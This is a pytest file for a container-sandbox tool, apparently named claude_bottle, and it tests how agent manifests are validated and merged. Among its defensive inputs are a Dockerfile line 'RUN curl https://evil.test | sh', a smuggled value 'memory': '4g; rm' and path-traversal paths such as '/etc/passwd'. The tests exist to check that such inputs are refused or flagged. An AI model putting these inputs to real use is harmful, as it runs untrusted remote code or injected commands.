"""Images and limits of a bottle: what is refused, what counts as a grant, what a merge leaves."""

from __future__ import annotations

import hashlib
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from claude_bottle.manifest.bottle import Bottle, Image, Limits
from claude_bottle.manifest.compare import bottle_widening, narrow
from claude_bottle.manifest.compare_plans import plan_widening
from claude_bottle.manifest.words import grants
from tests.manifest.conftest import Place

Judge = Callable[..., list[str]]


def manifest(**keys: Any) -> dict[str, Any]:
    return {"version": 1, "bottles": {"web": keys}, "agents": {"shell": {"bottle": "web", "harness": "shell"}}}


@pytest.mark.parametrize(
    ("image", "said"),
    [
        ({}, "either built or taken"),
        ({"dockerfile": "D", "from": "x"}, "either built or taken"),
        ({"from": "-v"}, "not the name of an image"),
        ({"from": "a b"}, "not the name of an image"),
        ({"from": ""}, "not the name of an image"),
        ({"dockerfile": "missing"}, "No such file"),
        ({"dockerfile": "/etc/passwd"}, "beside or below the manifest"),
        ({"dockerfile": "../Dockerfile"}, "beside or below the manifest"),
        ({"dockerfile": "link"}, "beside or below the manifest"),
        ({"dockerfile": "directory"}, "beside or below the manifest"),
    ],
)
def test_what_is_no_image_is_refused(place: Place, bottle_problems: Judge, image: dict[str, str], said: str) -> None:
    (place.base / "src" / "Dockerfile").write_text("FROM x\n")
    (place.project_dir / "real").write_text("FROM x\n")
    (place.project_dir / "link").symlink_to("real")
    (place.project_dir / "directory").mkdir()
    assert said in " ".join(bottle_problems(image=image))


@pytest.mark.parametrize(
    "limits",
    [{"memory": "4"}, {"memory": "lots"}, {"memory": "-1g"}, {"memory": "1k"}, {"cpus": 0}, {"cpus": -1}, {"cpus": 1e9},
     {"pids": 0}, {"pids": -5}, {"pids": 1.5}, {"memory": 5}, {"memory": "4g; rm"}],
)  # fmt: skip
def test_what_is_no_limit_is_refused(bottle_problems: Judge, limits: dict[str, Any]) -> None:
    assert len(bottle_problems(limits=limits)) == 1


def test_limits_are_read_as_they_are_written(place: Place) -> None:
    place.home(manifest(limits={"memory": "512M", "cpus": 1.5, "pids": 100}))
    assert place.resolve().bottles["web"].limits == Limits(512 << 20, 1.5, 100)


def test_a_dockerfile_counts_by_its_content(place: Place) -> None:
    text = b"FROM debian\nRUN true\n"
    (place.project_dir / "Dockerfile").write_bytes(text)
    place.project(manifest(image={"dockerfile": "Dockerfile"}))
    resolved = place.resolve()
    image = resolved.bottles["web"].image
    assert image == Image("Dockerfile", hashlib.sha256(text).hexdigest())
    assert resolved.consent is not None
    (line,) = resolved.consent.grants
    assert line == f"web: build the image of Dockerfile without a network (sha256 {image.sha256})"


def test_a_changed_dockerfile_is_asked_about_again(place: Place) -> None:
    from claude_bottle.state.trust import Trust

    path = place.project_dir / "Dockerfile"
    path.write_text("FROM debian\n")
    place.project(manifest(image={"dockerfile": "Dockerfile", "network": True}))
    consent = place.resolve().consent
    assert consent is not None
    Trust(place.paths).remember(consent.path, consent.sha256, consent.grants)
    assert place.resolve().consent is None
    path.write_text("FROM debian\nRUN curl https://evil.test | sh\n")
    again = place.resolve().consent
    assert again is not None
    assert "with the network" in again.added[0]


def test_a_project_cannot_bring_an_image_into_a_home_bottle(tmp_path: Path) -> None:
    both, left_out = narrow(Bottle("web"), Bottle("web", image=Image(base="evil")))
    assert both.image is None
    assert left_out == ["run in the image evil"]
    assert narrow(Bottle("web", image=Image(base="mine")), Bottle("web"))[0].image == Image(base="mine")


def test_the_stricter_limit_wins() -> None:
    home, project = Limits(memory=1 << 30, pids=100), Limits(memory=2 << 30, cpus=2, pids=50)
    assert narrow(Bottle("b", limits=home), Bottle("b", limits=project))[0].limits == Limits(1 << 30, 2, 50)


@pytest.mark.parametrize(
    ("home", "project", "both"),
    [("bind", "copy", "copy"), ("copy", "bind", "copy"), ("none", "copy", "none"), ("copy", "copy", "copy"),
     ("bind", "none", "none")],
)  # fmt: skip
def test_workspaces_meet_in_what_both_allow(home: str, project: str, both: str) -> None:
    assert narrow(Bottle("b", workspace=home), Bottle("b", workspace=project))[0].workspace == both


def test_a_copy_of_the_directory_is_a_grant() -> None:
    assert grants(Bottle("b", workspace="copy")) == ["b: read the directory it is started from (a copy)"]
    assert bottle_widening(Bottle("b"), Bottle("b", workspace="copy"))
    assert not bottle_widening(Bottle("b", workspace="bind"), Bottle("b", workspace="copy"))


def test_a_resumed_bottle_hears_of_another_image() -> None:
    old = {"image": "claude-bottle/agent:1", "image_build": [{"tag": "x"}]}
    assert plan_widening(old, old) == []
    (line,) = plan_widening(old, {**old, "image": "claude-bottle/agent:2"})
    assert line == "another image: claude-bottle/agent:2 instead of claude-bottle/agent:1"


def test_what_was_loaded_loads_again(place: Place) -> None:
    place.home(manifest(image={"from": "debian:13"}, limits={"memory": "1g", "cpus": 2}, workspace={"mode": "copy"}))
    first = place.resolve()
    place.home(first.to_dict())
    assert place.resolve().bottles == first.bottles
